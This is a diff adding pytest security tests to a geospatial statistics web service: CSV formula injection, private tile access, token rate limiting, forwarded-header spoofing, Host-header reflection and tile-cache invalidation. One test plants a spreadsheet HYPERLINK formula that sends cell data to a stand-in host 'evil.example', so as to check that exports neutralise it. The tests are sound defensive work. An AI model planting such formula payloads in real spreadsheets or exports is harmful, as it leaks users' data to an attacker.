@@ -3,25 +3,39 @@ real service process, database, cache or client socket."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
+import re
+import shutil
 import socket
 import time
 import urllib.error
 import urllib.request
 from collections.abc import Iterator
 from contextlib import ExitStack
+from pathlib import Path
+from typing import Any
 from urllib.parse import urlsplit
 
 import psycopg
 import pytest
+from fastapi.testclient import TestClient
 
+from geo_core import grid
+from geo_service.http.app import create_app
+from geo_service.settings import ServiceSettings
+from geo_service.tiles.nginx import nginx_conf
+from geo_service.users import add_user
 from tests.conftest import PgCluster, serve
 
 TILE = "/collections/commune-2025/tiles/WebMercatorQuad/6/50/28"
 FULL = "/collections/commune-2025/items?limit=10000"
 
 
-def _get(url: str, timeout: float = 15.0, headers: dict[str, str] | None = None
-         ) -> tuple[int, bytes]:
+def _get(
+    url: str, timeout: float = 15.0, headers: dict[str, str] | None = None
+) -> tuple[int, bytes]:
     request = urllib.request.Request(url, headers=headers or {})
     try:
         with urllib.request.urlopen(request, timeout=timeout) as response:
@@ -80,3 +94,183 @@ def test_one_client_gets_a_bounded_number_of_downloads(demo_copy: str) -> None:
         assert status == 429 and b'"parameter":"limit"' in body
         assert _get(base + "/health")[0] == 200  # (other requests are not counted)
 
+
+def test_csv_cells_that_would_run_as_formulas_are_text(demo_copy: str, tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with psycopg.connect(demo_copy, autocommit=True) as conn:
+        conn.execute(
+            "UPDATE admin_unit SET name = %s WHERE vintage = '2025' AND code = '01'", (formula,)
+        )
+    settings = ServiceSettings(home=tmp_path)
+    with TestClient(create_app(settings, db_url=demo_copy)) as client:
+        items = client.get("/collections/province-2025/items", params={"f": "csv"}).text
+        values = client.get(
+            "/indicators/density/values",
+            params={"vintage": "2025", "level": "province", "f": "csv"},
+        ).text
+    for text in (items, values):
+        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+        names = [row[rows[0].index("name")] for row in rows[1:]]
+        assert "'" + formula in names and formula not in names
+
+
+def _app(demo_copy: str, tmp_path: Path, peer: str = "203.0.113.9", **settings: Any) -> TestClient:
+    service = ServiceSettings(home=tmp_path, **settings)
+    return TestClient(create_app(service, db_url=demo_copy), client=(peer, 40000))
+
+
+def _admin(demo_copy: str) -> dict[str, str]:
+    with psycopg.connect(demo_copy, autocommit=True) as conn:
+        return {"Authorization": f"Bearer {add_user(conn, 'boss', 'admin', [])}"}
+
+
+def test_private_reads_keep_ea_tiles_private(demo_copy: str, tmp_path: Path) -> None:
+    admin = _admin(demo_copy)
+    tree = tmp_path / "tiles"
+    with _app(
+        demo_copy, tmp_path, public_reads=False, tile_cache="directory", tile_cache_path=tree
+    ) as client:
+        made = client.post("/communes/00004/ea-generate", headers=admin)
+        assert made.status_code == 201 and made.json()["created"] > 0
+        z, (x, y) = 14, next(grid.tiles_in((105.830, 21.030, 105.832, 21.032), 14))
+        tile = f"/collections/enumeration-areas/tiles/WebMercatorQuad/{z}/{x}/{y}"
+        refused = client.get(tile)
+        assert refused.status_code == 401 and refused.json()["parameter"] == "Authorization"
+        allowed = client.get(tile, headers=admin)
+        assert allowed.status_code == 200 and allowed.content
+        assert allowed.headers["cache-control"].startswith("private")
+        assert client.get(tile, headers=admin).status_code == 200  # (from the service's cache)
+        assert not (tree / "enumeration-areas").exists()
+    conf = nginx_conf(
+        ServiceSettings(
+            home=tmp_path, public_reads=False, tile_cache="directory", tile_cache_path=tree
+        )
+    )
+    pattern = re.search(r'location ~ "([^"]+)"', conf)
+    assert pattern is not None
+    served_as_file = re.compile(pattern.group(1).replace("(?<", "(?P<"))
+    assert served_as_file.match("/collections/commune-2025/tiles/WebMercatorQuad/6/50/28")
+    assert not served_as_file.match(tile)
+
+
+def test_others_failures_never_refuse_a_valid_token(demo_copy: str, tmp_path: Path) -> None:
+    admin = _admin(demo_copy)
+    with _app(demo_copy, tmp_path) as client:
+        statuses = [
+            client.get("/users/me", headers={"Authorization": f"Bearer bad{i}"}).status_code
+            for i in range(25)
+        ]
+        assert statuses[:20] == [401] * 20 and set(statuses[20:]) == {429}
+        assert client.get("/users/me", headers=admin).status_code == 200
+        again = client.get("/users/me", headers={"Authorization": "Bearer bad99"})
+        assert again.status_code == 429 and "Retry-After" in again.headers
+
+
+def test_forwarded_addresses_count_only_from_trusted_proxies(
+    demo_copy: str, tmp_path: Path
+) -> None:
+    def failures(client: TestClient, forwarded_for: str) -> list[int]:
+        return [
+            client.get(
+                "/users/me",
+                headers={
+                    "Authorization": f"Bearer x{i}",
+                    "X-Forwarded-For": f"{forwarded_for}.{i}",
+                },
+            ).status_code
+            for i in range(22)
+        ]
+
+    # an untrusted peer rotating X-Forwarded-For is still one address: blocked
+    with _app(demo_copy, tmp_path) as client:
+        assert failures(client, "10.0.0")[-1] == 429
+    # behind a trusted proxy each forwarded address counts for itself
+    with _app(demo_copy, tmp_path, peer="127.0.0.1", trusted_proxies="127.0.0.1") as client:
+        assert set(failures(client, "10.0.0")) == {401}
+
+
+def test_a_host_nobody_configured_is_never_reflected(demo_copy: str, tmp_path: Path) -> None:
+    evil = {"Host": "evil.example"}
+    with _app(demo_copy, tmp_path) as client:
+        page = client.get("/collections/commune-2025/items?limit=2", headers=evil).json()
+        tilejson = client.get(
+            "/collections/commune-2025/tiles/WebMercatorQuad/tilejson.json", headers=evil
+        ).json()
+        assert "evil.example" not in json.dumps(page) + json.dumps(tilejson)
+        assert page["links"][0]["href"].startswith("http://127.0.0.1:8000/")
+    public = "https://stats.example.vn"
+    with _app(demo_copy, tmp_path, public_url=public) as client:
+        landing = client.get("/", headers=evil).json()
+        assert {link["href"].split("/")[2] for link in landing["links"]} == {"stats.example.vn"}
+    with _app(demo_copy, tmp_path, peer="127.0.0.1", trusted_proxies="127.0.0.1") as client:
+        forwarded = {"X-Forwarded-Host": "geo.example.vn", "X-Forwarded-Proto": "https"}
+        links = client.get("/", headers={**evil, **forwarded}).json()["links"]
+        assert links[0]["href"].startswith("https://geo.example.vn/")
+
+
+def _ea_tile(client: TestClient, admin: dict[str, str]) -> tuple[str, str]:
+    """Draft EAs in commune 00004 and the URL of a tile showing them; and that tile's path
+    under a directory cache."""
+    assert client.post("/communes/00004/ea-generate", headers=admin).status_code == 201
+    z, (x, y) = 14, next(grid.tiles_in((105.830, 21.030, 105.832, 21.032), 14))
+    return (
+        f"/collections/enumeration-areas/tiles/WebMercatorQuad/{z}/{x}/{y}",
+        f"enumeration-areas/default/{z}/{x}/{y}",
+    )
+
+
+@pytest.mark.parametrize("backend", ["sqlite", "directory", "redis"])
+def test_a_truncate_leaves_no_stale_tile(
+    backend: str, demo_copy: str, tmp_path: Path, request: pytest.FixtureRequest
+) -> None:
+    admin = _admin(demo_copy)
+    extra: dict[str, Any] = {"tile_cache": backend, "tile_cache_path": tmp_path / "cache"}
+    if backend == "redis":
+        extra["redis_url"] = request.getfixturevalue("redis_url")
+    with _app(demo_copy, tmp_path, **extra) as client:
+        tile, path = _ea_tile(client, admin)
+        before = client.get(tile)
+        assert before.status_code == 200 and before.content
+        assert client.get(tile).content == before.content  # (from the cache)
+        with psycopg.connect(demo_copy, autocommit=True) as conn:
+            conn.execute("TRUNCATE enumeration_area CASCADE")
+        assert client.get(tile).content == b""
+        if backend == "directory":  # (what nginx would send: nothing, or the new empty tile)
+            served = tmp_path / "cache" / f"{path}.mvt"
+            assert not served.exists() or served.read_bytes() == b""
+
+
+def test_a_truncate_of_the_boundaries_reaches_every_layer(demo_copy: str, tmp_path: Path) -> None:
+    with _app(demo_copy, tmp_path) as client:
+        assert client.get(TILE).content
+        with psycopg.connect(demo_copy, autocommit=True) as conn:
+            conn.execute("TRUNCATE admin_unit_generalised")
+        assert client.get(TILE).content == b""
+
+
+def test_a_failed_purge_keeps_the_trees_epoch(demo_copy: str, tmp_path: Path) -> None:
+    admin, tree = _admin(demo_copy), tmp_path / "tiles"
+    settings = {"tile_cache": "directory", "tile_cache_path": tree}
+    with _app(demo_copy, tmp_path, **settings) as client:
+        tile, path = _ea_tile(client, admin)
+        assert client.get(tile).content
+        marked = (tree / ".epoch").read_text()
+        stuck = tree / f"{path}.mvt.gz"  # a file the purge cannot delete (as root, too)
+        stuck.unlink(missing_ok=True)
+        (stuck / "in-the-way").mkdir(parents=True)
+        with psycopg.connect(demo_copy, autocommit=True) as conn:
+            conn.execute("DELETE FROM enumeration_area")
+        assert client.get(tile).content == b""  # (the service itself checks freshness)
+        assert (tree / ".epoch").read_text() == marked
+        health = client.get("/health").json()
+        assert health["status"] == "degraded" and health["tile_cache"] == "degraded"
+        assert (
+            'geo_service_tile_cache_degraded{backend="directory"} 1.0'
+            in client.get("/metrics").text
+        )
+    # the operator removes what was in the way and starts the service again: it purges
+    shutil.rmtree(stuck)
+    with _app(demo_copy, tmp_path, **settings) as client:
+        assert client.get("/health").json()["status"] == "ok"
+    assert int((tree / ".epoch").read_text()) > int(marked)
+    assert not (tree / f"{path}.mvt").exists()  # (purged; nothing asked for it since)
